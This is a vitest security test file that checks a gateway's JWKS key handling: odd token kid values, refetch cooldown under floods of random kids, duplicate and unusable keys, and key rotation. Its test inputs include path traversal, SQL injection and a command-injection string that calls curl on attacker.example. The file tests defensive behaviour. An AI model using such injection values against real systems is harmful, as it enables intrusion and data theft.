/**
 * The key set as an attack surface: odd `kid` values, floods of random kids (at most one JWKS
 * refetch per JWKS_REFRESH_COOLDOWN_SECONDS, counted at the real central origin), duplicate kids,
 * unusable keys in the JWKS, and key rotation (a new kid works after one refetch, a removed one
 * stops working).
 */
import { describe, expect, it } from 'vitest';
import { KeySet } from '../../../src/token/index.ts';
import { ORIGINS, originRequests } from '../helpers.ts';
import {
  bearer,
  expectRejected,
  freshKey,
  gatewayWith,
  JWKS_URL,
  publicTestKeys,
  putKeySet,
  REGION_ORIGINS,
  req,
  send,
  signRaw,
  uniqueName,
  validClaims,
  warmGateway,
} from './support.ts';

const EU = REGION_ORIGINS['eu-central-1'];

/** JWKS fetches the central origin saw for one URL (unique per test, so parallel files do not interfere). */
async function jwksFetches(url: string): Promise<number> {
  const u = new URL(url);
  return (await originRequests('central')).filter((r) => r.method === 'GET' && r.url === u.pathname + u.search).length;
}

describe('odd kid values', () => {
  const odd: Array<[string, unknown]> = [
    ['a path', '../../../etc/passwd'],
    ['a URL', 'https://attacker.example/key'],
    ['SQL', "es-1' OR '1'='1"],
    ['shell', '$(curl attacker.example)`id`'],
    ['a JSON pointer', '#/keys/0'],
    ['the published kid with a suffix', 'es-1 '],
    ['empty', ''],
    ['a number', 7],
    ['null', null],
    ['an object', { kid: 'es-1' }],
    ['an array', ['es-1']],
    ['very long (257 chars)', 'k'.repeat(257)],
    ['very long (5000 chars)', 'k'.repeat(5000)],
    ['non-ASCII', 'es‐1'],
    ['a control character', 'es-1\u0000'],
  ];
  for (const [name, kid] of odd) {
    it(`${name} → 401, no egress`, async () => {
      const gw = await warmGateway();
      const token = await signRaw(validClaims(), { header: { kid } });
      expectRejected(await send(gw, req('/api/pages', { headers: bearer(token) })), {
        status: 401,
        code: 'invalid_token',
        secrets: typeof kid === 'string' && kid.trim().length >= 3 ? [kid.slice(0, 40)] : [],
      });
    });
  }

  it('kids that are not short printable strings never cause a JWKS fetch, even with the shortest cooldown', async () => {
    const gw = await warmGateway({ JWKS_REFRESH_COOLDOWN_SECONDS: '1' });
    for (const kid of ['', 7, null, 'k'.repeat(257), 'es‐1', 'a\u0001b']) {
      const token = await signRaw(validClaims(), { header: { kid } });
      expectRejected(await send(gw, req('/api/pages', { headers: bearer(token) })), { status: 401, code: 'invalid_token' });
    }
  });
});

describe('a flood of random kids', () => {
  it('causes no JWKS refetch within the cooldown (counted at the central origin)', async () => {
    const url = `${JWKS_URL}?flood=${uniqueName('cooldown')}`;
    const gw = gatewayWith({ JWKS_URL: url, JWKS_REFRESH_COOLDOWN_SECONDS: '30' });
    const first = await send(gw, req('/api/pages', { headers: bearer(await signRaw(validClaims())) }), [url, EU]);
    expect(first.res.status).toBe(200);
    expect(await jwksFetches(url)).toBe(1); // the initial load
    const tokens = await Promise.all(Array.from({ length: 60 }, () => signRaw(validClaims(), { header: { kid: crypto.randomUUID() } })));
    // Half concurrently, half one after another.
    const concurrent = await Promise.all(tokens.slice(0, 30).map((t) => gw(req('/api/pages', { headers: bearer(t) }))));
    for (const r of concurrent) expect(r.status).toBe(401);
    for (const t of tokens.slice(30)) {
      const out = await send(gw, req('/api/pages', { headers: bearer(t) }), [url]);
      expectRejected(out, { status: 401, code: 'invalid_token' });
    }
    expect(await jwksFetches(url)).toBe(1);
    expect(await originRequests('eu-central-1').then((rs) => rs.filter((r) => r.url.includes('flood')).length)).toBe(0);
  });

  it('control: once the shortest cooldown (1 s) has passed, an unknown kid does refetch (so the count above is meaningful)', async () => {
    const url = `${JWKS_URL}?flood=${uniqueName('nocooldown')}`;
    const gw = gatewayWith({ JWKS_URL: url, JWKS_REFRESH_COOLDOWN_SECONDS: '1' });
    expect((await send(gw, req('/api/pages', { headers: bearer(await signRaw(validClaims())) }), [url, EU])).res.status).toBe(200);
    for (let i = 0; i < 2; i++) {
      await new Promise((r) => setTimeout(r, 1050));
      const t = await signRaw(validClaims(), { header: { kid: crypto.randomUUID() } });
      expect((await gw(req('/api/pages', { headers: bearer(t) }))).status).toBe(401);
    }
    expect(await jwksFetches(url)).toBe(3);
  });

  it('a cooldown of 0 is refused by the configuration (every unknown kid would be a fetch)', async () => {
    const url = `${JWKS_URL}?flood=${uniqueName('zero')}`;
    const out = await send(gatewayWith({ JWKS_URL: url, JWKS_REFRESH_COOLDOWN_SECONDS: '0' }), req('/api/pages', { headers: bearer(await signRaw(validClaims())) }));
    expectRejected(out, { status: 500, code: 'config_invalid' });
    expect(await jwksFetches(url)).toBe(0);
  });
});

describe('at most one refetch per cooldown, on a controlled clock', () => {
  it('floods before and after the cooldown elapses: one refetch per cooldown, however many kids', async () => {
    const url = `${JWKS_URL}?flood=${uniqueName('clock')}`;
    let clock = 1_000_000;
    const keySet = await KeySet.create({ jwksUrl: url, algorithms: ['ES256', 'EdDSA'], ttlMs: 3_600_000, cooldownMs: 30_000, now: () => clock });
    const flood = (n: number) => Promise.all(Array.from({ length: n }, () => keySet.lookup(crypto.randomUUID(), 'ES256')));

    expect((await keySet.lookup('es-1', 'ES256')).ok).toBe(true); // initial load
    expect(await jwksFetches(url)).toBe(1);
    for (const r of await flood(50)) expect(r).toEqual({ ok: false, reason: 'unknown_kid' });
    expect(await jwksFetches(url)).toBe(1);

    clock += 29_000; // still inside the cooldown
    await flood(50);
    expect(await jwksFetches(url)).toBe(1);

    clock += 2_000; // cooldown over: a concurrent flood makes exactly one refetch
    await flood(50);
    expect(await jwksFetches(url)).toBe(2);
    await flood(50);
    expect(await jwksFetches(url)).toBe(2);

    clock += 31_000;
    for (let i = 0; i < 20; i++) await flood(1); // one after another this time
    expect(await jwksFetches(url)).toBe(3);
  });
});

describe('what the JWKS itself contains', () => {
  it('two keys under one kid: tokens naming it are refused rather than guessed', async () => {
    const a = await freshKey('ES256', 'dup');
    const b = await freshKey('ES256', 'dup');
    const url = await putKeySet(uniqueName('dup'), [a.publicJwk, b.publicJwk, ...publicTestKeys()]);
    const gw = gatewayWith({ JWKS_URL: url, JWKS_REFRESH_COOLDOWN_SECONDS: '1' });
    // Other kids in the same set work (this also loads the set).
    expect((await send(gw, req('/api/pages', { headers: bearer(await signRaw(validClaims())) }), [url, EU])).res.status).toBe(200);
    for (const k of [a, b]) {
      const token = await signRaw(validClaims(), { key: { alg: 'ES256', privateKey: k.privateKey, kid: 'dup' } });
      // Ambiguity is not "unknown": no refetch either, even with no cooldown.
      expectRejected(await send(gw, req('/api/pages', { headers: bearer(token) })), { status: 401, code: 'invalid_token' });
    }
  });

  it('private, symmetric and encryption keys in the JWKS are never used to verify', async () => {
    const priv = await freshKey('ES256', 'leaked');
    const privateJwk = { ...priv.publicJwk, d: 'AAAA' };
    const secret = new TextEncoder().encode('k'.repeat(32));
    const octJwk = { kty: 'oct', kid: 'sym', alg: 'HS256', k: 'a'.repeat(43) };
    const enc = await freshKey('ES256', 'enc');
    // Next to the usable test keys, so the set as a whole is healthy and only these are skipped.
    const url = await putKeySet(uniqueName('unusable'), [privateJwk, octJwk, { ...enc.publicJwk, use: 'enc' }, ...publicTestKeys()]);
    const gw = gatewayWith({ JWKS_URL: url, JWKS_REFRESH_COOLDOWN_SECONDS: '3600', JWT_ALGORITHMS: '["ES256","EdDSA"]' });
    expect((await send(gw, req('/api/pages', { headers: bearer(await signRaw(validClaims())) }), [url, EU])).res.status).toBe(200);
    const tokens = [
      await signRaw(validClaims(), { key: { alg: 'ES256', privateKey: priv.privateKey, kid: 'leaked' } }),
      await signRaw(validClaims(), { key: { alg: 'HS256', privateKey: secret, kid: 'sym' } }),
      await signRaw(validClaims(), { key: { alg: 'ES256', privateKey: enc.privateKey, kid: 'enc' } }),
    ];
    for (const t of tokens) {
      expectRejected(await send(gw, req('/api/pages', { headers: bearer(t) })), { status: 401, code: 'invalid_token' });
    }
  });
});

describe('key rotation', () => {
  it('a new kid works after exactly one refetch; a removed kid stops working at the next refetch', async () => {
    const k1 = await freshKey('ES256', uniqueName('k1'));
    const k2 = await freshKey('ES256', uniqueName('k2'));
    const name = uniqueName('rotation');
    const url = await putKeySet(name, [k1.publicJwk]);
    const gw = gatewayWith({ JWKS_URL: url, JWKS_REFRESH_COOLDOWN_SECONDS: '1' });
    const tokenFor = (k: typeof k1) => signRaw(validClaims(), { key: { alg: 'ES256', privateKey: k.privateKey, kid: k.kid } });

    expect((await send(gw, req('/api/pages', { headers: bearer(await tokenFor(k1)) }), [url, EU])).res.status).toBe(200);
    expect(await jwksFetches(url)).toBe(1);

    // Rotation: k2 published, k1 withdrawn (after the shortest refetch cooldown).
    await putKeySet(name, [k2.publicJwk]);
    await new Promise((r) => setTimeout(r, 1050));
    expect((await send(gw, req('/api/pages', { headers: bearer(await tokenFor(k2)) }), [url, EU])).res.status).toBe(200);
    expect(await jwksFetches(url)).toBe(2);
    // k2 is now cached: no further fetch.
    expect((await send(gw, req('/api/pages', { headers: bearer(await tokenFor(k2)) }), [EU])).res.status).toBe(200);
    expect(await jwksFetches(url)).toBe(2);

    // k1 is gone from the refetched set: refused.
    const stale = await send(gw, req('/api/pages', { headers: bearer(await tokenFor(k1)) }), [url]);
    expectRejected({ ...stale, egress: stale.egress.filter((e) => e.url !== url) }, { status: 401, code: 'invalid_token' });
  });
});

it('the central origin URL never appears in a rejection', async () => {
  const gw = await warmGateway();
  const out = await send(gw, req('/api/pages', { headers: bearer(await signRaw(validClaims(), { header: { kid: 'nope' } })) }));
  expectRejected(out, { status: 401, code: 'invalid_token', secrets: [ORIGINS.central!] });
});
